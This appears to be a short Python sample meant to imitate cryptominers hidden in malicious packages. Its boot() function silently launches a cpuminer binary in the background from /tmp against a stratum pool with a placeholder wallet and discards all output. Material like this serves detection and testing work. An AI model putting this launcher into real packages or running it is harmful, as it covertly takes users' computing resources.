# Imitates shell-launched miners in malicious packages: nohup cpuminer in the background against a public pool.
import os


def boot():
    os.system("cd /tmp && nohup ./cpuminer -a yespower -o stratum+tcp://yespower.eu.mine.example.invalid:6234 -u WALLET.plugin -t 2 >/dev/null 2>&1 &")
